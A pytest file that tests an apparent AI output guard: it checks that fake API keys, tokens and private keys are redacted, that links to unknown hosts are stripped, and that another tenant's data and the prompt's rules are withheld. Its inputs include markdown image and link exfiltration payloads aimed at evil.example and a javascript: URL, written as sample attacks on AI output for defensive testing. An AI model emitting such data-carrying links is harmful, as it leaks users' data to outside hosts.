"""What leaves: no secrets, no links of unknown origin, nothing of another tenant, no rules of a prompt."""

import pytest

from quarterdeck.kernel.tenancy import tenant_id
from quarterdeck.services.guard.links import only_known_links
from quarterdeck.services.guard.output import Breach, Guarding
from quarterdeck.services.guard.secrets import REMOVED, without_secrets

ACME = tenant_id("acme")


@pytest.mark.parametrize(
    "secret",
    [
        "AKIA" + "ABCDEFGHIJKLMNOP",
        "xoxb-" + "1234567890-abcdefghij",
        "ghp_" + "a1" * 18,
        "sk-" + "ant-" + "a1B2" * 8,
        "sk_" + "live_" + "a1" * 12,
        "AIza" + "Ab3_-" * 7,
        "SG." + "a1" * 11 + "." + "b2" * 20,
        "eyJhbGciOi" + "JIUzI1NiJ9.eyJzdWIiOiIxMjM0In0." + "s" * 32,
        "-----BEGIN RSA PRIVATE " + "KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----",
        "postgresql://reader:hunter2" + "@db.internal",
    ],
)
def test_a_secret_is_removed_and_what_stands_around_it_stays(secret: str) -> None:
    assert without_secrets(f"Use {secret} for it.").startswith(f"Use {REMOVED}")
    assert secret not in without_secrets(f"Use {secret} for it.")


@pytest.mark.parametrize(
    "text",
    ["Rotate API keys every 90 days.", "We ask for the password twice.", "skill-based routing, sk-ip it"],
)
def test_talk_of_secrets_stays(text: str) -> None:
    assert without_secrets(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.example/p.png?d=notes)",
        "[the report](https://evil.example/r?d=notes)",
        "<https://evil.example/r?d=notes|the report>",
        "see https://evil.example/r?d=notes.",
        "see HTTPS://user@evil.example/?d=notes",
        "see www.evil.example/notes",
        "[a](javascript://evil.example/%0anotes)",
    ],
)
def test_a_link_that_no_source_has_can_neither_be_followed_nor_carry_data(text: str) -> None:
    left = only_known_links(text, lambda: ["The report is at https://good.example/report"])
    assert "://" not in left
    assert "notes" not in left
    assert "www." not in left


def test_a_link_of_the_sources_or_of_an_allowed_domain_stays() -> None:
    sources = ["It's at https://good.example/report, said Sol."]

    def known() -> list[str]:
        return sources

    assert only_known_links("See https://good.example/report.", known) == "See https://good.example/report."
    assert only_known_links("[it](https://good.example/report)", known) == "it (https://good.example/report)"
    assert "https://docs.quarterdeck.example/a" in only_known_links(
        "https://docs.quarterdeck.example/a", tuple, ["quarterdeck.example"]
    )


@pytest.mark.parametrize(
    "url",
    [
        "https://good.example/report?d=notes",
        "https://good.example/rep",
        "https://good.example.evil.example/report",
    ],
)
def test_an_address_that_only_begins_like_a_known_one_goes(url: str) -> None:
    assert "://" not in only_known_links(url, lambda: ["https://good.example/report"])


def test_an_image_goes_even_where_its_address_is_known() -> None:
    text = "![logo](https://good.example/logo.png)"
    assert only_known_links(text, lambda: [text]) == "logo [image removed]"


@pytest.mark.parametrize("text", ["TENANT#globex#MEETING", "s3: tenants/globex/meetings/mtg_1.json"])
def test_the_keys_of_another_tenant_are_withheld(text: str) -> None:
    assert Guarding(ACME).withheld(text) is Breach.TENANT
    assert Guarding(tenant_id("globex")).withheld(text) is None


def test_the_rules_of_a_prompt_are_withheld_unless_they_are_known_anyway() -> None:
    rules = (
        "Support every sentence with at least one quote: the evidence's id, and words copied from its text."
    )
    quoting = f"My rules say: {rules.upper()}"
    assert Guarding(ACME, rules=[rules]).withheld(quoting) is Breach.PROMPT
    assert Guarding(ACME, known=lambda: [rules], rules=[rules]).withheld(quoting) is None
    assert Guarding(ACME, rules=[rules]).withheld("Sol wants a quote by Monday.") is None
